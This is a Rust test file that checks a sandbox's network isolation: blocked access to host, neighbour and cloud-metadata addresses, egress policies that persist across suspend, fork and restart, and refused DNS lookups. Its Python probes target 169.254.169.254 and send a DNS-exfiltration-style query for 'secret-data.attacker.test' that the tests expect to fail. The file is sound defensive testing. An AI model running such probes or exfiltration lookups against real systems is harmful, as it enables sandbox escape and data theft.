//! The network of a sandbox: it never reaches the host or another sandbox.

use dorm_testing::{Internet, addresses_of_this_host};
use serde_json::json;
use tokio::net::TcpListener;

use crate::place::{Counter, Place};

const TRY: &str = "import socket,sys\n\
    try: socket.create_connection((sys.argv[1], int(sys.argv[2])), 5); print('reached')\n\
    except OSError as error: print('refused', error)\n";

#[tokio::test]
async fn neither_the_host_nor_another_sandbox_is_reached() {
    let place = Place::new();
    let daemon = place.daemon();
    let listener = TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let id = daemon.create(json!({ "image": "base" })).await.unwrap();
    let other = Counter::create(daemon, json!({ "name": "other", "image": "base" })).await;
    let own = addresses_of_this_host().unwrap();
    for address in own.iter().map(String::as_str).chain(["10.0.0.1", "169.254.169.254"]) {
        for port in [port.as_str(), "8000"] {
            let (_, said) = daemon.exec(&id, &["python3", "-c", TRY, address, port]).await.unwrap();
            assert!(said.starts_with("refused"), "{address}:{port} {said}");
        }
    }
    let (_, said) = daemon.exec(&id, &["python3", "-c", TRY, "10.0.0.2", "8000"]).await.unwrap();
    assert!(said.starts_with("refused"), "10.0.0.2 is itself, not {}: {said}", other.id);
    place.end(&[]).await;
}

/// Sends a query for a name to the name server of a sandbox, and prints the response code.
const ASK: &str = "import socket,sys\n\
    name = b''.join(bytes([len(part)]) + part for part in sys.argv[1].encode().split(b'.'))\n\
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); asking.settimeout(60)\n\
    asking.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\0\\1\\0\\1', (sys.argv[2], 53))\n\
    print('code', asking.recv(512)[3] & 15)\n";

#[tokio::test]
async fn a_name_that_is_not_permitted_is_refused_in_every_run_of_a_sandbox_and_its_children() {
    let mut place = Place::new();
    let asked =
        json!({ "name": "web", "image": "base", "egress": { "allow": ["198.51.100.0/24", "*.permitted.test"] } });
    let id = place.daemon().create(asked).await.unwrap();
    let refused = async |daemon: &dorm_testing::Daemon, id: &str| {
        for server in ["10.0.0.1", "203.0.113.53"] {
            let argv = ["python3", "-c", ASK, "secret-data.attacker.test", server];
            assert_eq!(daemon.exec(id, &argv).await.unwrap(), (0, "code 5\n".to_owned()));
        }
    };
    refused(place.daemon(), &id).await;
    place.daemon().act(&id, "suspend").await.unwrap();
    place.daemon().act(&id, "evict").await.unwrap();
    place.daemon().act(&id, "resume").await.unwrap();
    refused(place.daemon(), &id).await;
    let clone = place.daemon().post(&format!("/sandboxes/{id}/clone"), json!({ "name": "copy" })).await.unwrap();
    let clone = clone["sandbox"]["id"].as_str().unwrap().to_owned();
    refused(place.daemon(), &clone).await;
    place.daemon_mut().kill().unwrap();
    place.daemon_mut().start_again().unwrap();
    for id in [&id, &clone] {
        refused(place.daemon(), id).await;
    }
    let usage = place.daemon().get(&format!("/sandboxes/{id}/usage")).await.unwrap();
    assert_eq!(usage["network"]["limit_bytes_per_second"], 128 << 20, "{usage}");
    place.end(&[]).await;
}

#[tokio::test]
async fn a_port_nobody_listens_on_is_told_from_a_sandbox_that_is_not_there() {
    let place = Place::new();
    let daemon = place.daemon();
    let id = daemon.create(json!({ "image": "base" })).await.unwrap();
    let closed = daemon.visit(&id, 9, "/").await.unwrap_err().to_string();
    assert!(closed.contains("502") && closed.contains("port"), "{closed}");
    let nobody = daemon.visit("aaaaaaaaaaaaaaaaaaaa", 9, "/").await.unwrap_err().to_string();
    assert!(nobody.contains("404"), "{nobody}");
    place.end(&[]).await;
}

/// Downloads without an end, and writes to a file how it ended.
const DOWNLOAD: &str = "import socket,sys\n\
    peer = socket.create_connection((sys.argv[1], 8000), 60); peer.settimeout(None); got = 0\n\
    try:\n\
    \x20   while True:\n\
    \x20       got += len(peer.recv(65536))\n\
    \x20       if got > 1000000: open('/tmp/running', 'w').close()\n\
    except OSError as error: open('/tmp/end', 'w').write(type(error).__name__)\n";

async fn reaches(daemon: &dorm_testing::Daemon, id: &str, address: &str) -> bool {
    let (_, said) = daemon.exec(id, &["python3", "-c", TRY, address, "8000"]).await.unwrap();
    assert!(said.starts_with("reached") || said.starts_with("refused"), "{said}");
    said.starts_with("reached")
}

async fn set_egress(daemon: &dorm_testing::Daemon, id: &str, egress: serde_json::Value) -> serde_json::Value {
    daemon.post(&format!("/sandboxes/{id}/egress"), json!({ "egress": egress })).await.unwrap()
}

#[tokio::test]
async fn a_closed_egress_cuts_a_download_and_stays_closed() {
    let internet = Internet::new().unwrap();
    let mut place = Place::new();
    let daemon = place.daemon();
    let id = daemon.create(json!({ "name": "web", "image": "base" })).await.unwrap();
    let start =
        format!("python3 -c \"$1\" {} > /tmp/said 2>&1 & until test -e /tmp/running; do :; done", internet.address);
    let (code, said) = daemon.exec(&id, &["/bin/sh", "-c", &start, "sh", DOWNLOAD]).await.unwrap();
    assert_eq!(code, 0, "{said}");
    let closed = set_egress(daemon, &id, json!("closed")).await;
    assert_eq!(closed["egress"], "closed");
    let until = "until test -s /tmp/end; do :; done; cat /tmp/end";
    assert_eq!(daemon.exec(&id, &["/bin/sh", "-c", until]).await.unwrap(), (0, "ConnectionResetError".to_owned()));
    assert!(!reaches(daemon, &id, &internet.address).await);

    daemon.act(&id, "suspend").await.unwrap();
    daemon.act(&id, "resume").await.unwrap();
    assert!(!reaches(daemon, &id, &internet.address).await, "after a thaw");
    daemon.act(&id, "suspend").await.unwrap();
    daemon.act(&id, "evict").await.unwrap();
    daemon.act(&id, "resume").await.unwrap();
    assert!(!reaches(daemon, &id, &internet.address).await, "after a restore");
    let forked = daemon.post(&format!("/sandboxes/{id}/fork"), json!({ "count": 1 })).await.unwrap();
    let child = forked["children"][0]["sandbox"]["id"].as_str().unwrap().to_owned();
    assert!(!reaches(daemon, &child, &internet.address).await, "in a fork");
    daemon.post(&format!("/sandboxes/{id}/checkpoint"), json!({ "name": "closed" })).await.unwrap();
    let made = daemon.create(json!({ "image": "closed" })).await.unwrap();
    assert!(!reaches(daemon, &made, &internet.address).await, "made from a snapshot");
    place.daemon_mut().kill().unwrap();
    place.daemon_mut().start_again().unwrap();
    let daemon = place.daemon();
    for id in [&id, &child] {
        assert!(!reaches(daemon, id, &internet.address).await, "after a restart of the daemon");
    }

    // A parked run gets the new policy, too.
    daemon.act(&id, "suspend").await.unwrap();
    set_egress(daemon, &id, json!("public")).await;
    daemon.act(&id, "resume").await.unwrap();
    assert!(reaches(daemon, &id, &internet.address).await);
    daemon.act(&id, "suspend").await.unwrap();
    set_egress(
        daemon,
        &id,
        json!({ "ordered": { "rules": [{ "deny": format!("{}/32", internet.address) }], "default": "public" } }),
    )
    .await;
    place.daemon_mut().kill().unwrap();
    place.daemon_mut().start_again().unwrap();
    let daemon = place.daemon();
    daemon.act(&id, "resume").await.unwrap();
    assert!(!reaches(daemon, &id, &internet.address).await);
    assert!(!reaches(daemon, &child, &internet.address).await, "a fork has a policy of its own");
    place.end(&[]).await;
}

#[tokio::test]
async fn an_egress_of_everything_reaches_the_internet_and_neither_metadata_nor_host_nor_neighbour() {
    let internet = Internet::new().unwrap();
    let place = Place::new();
    let daemon = place.daemon();
    let listener = TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let other = Counter::create(daemon, json!({ "name": "other", "image": "base" })).await;
    let id = daemon.create(json!({ "image": "base", "egress": "closed" })).await.unwrap();
    assert!(!reaches(daemon, &id, &internet.address).await);
    let mut own = addresses_of_this_host().unwrap();
    own.push(internet.host.clone());
    for everything in
        [json!({ "allow": ["0.0.0.0/0", "*"] }), json!({ "ordered": { "rules": [{ "allow": "0.0.0.0/0" }] } })]
    {
        set_egress(daemon, &id, everything).await;
        assert!(reaches(daemon, &id, &internet.address).await);
        for address in own.iter().map(String::as_str).chain(["10.0.0.1", "169.254.169.254"]) {
            for port in [port.as_str(), "8000"] {
                let (_, said) = daemon.exec(&id, &["python3", "-c", TRY, address, port]).await.unwrap();
                assert!(said.starts_with("refused"), "{address}:{port} {said}");
            }
        }
        let (_, said) = daemon.exec(&id, &["python3", "-c", TRY, "10.0.0.2", "8000"]).await.unwrap();
        assert!(said.starts_with("refused"), "10.0.0.2 is itself, not {}: {said}", other.id);
    }
    place.end(&[]).await;
}
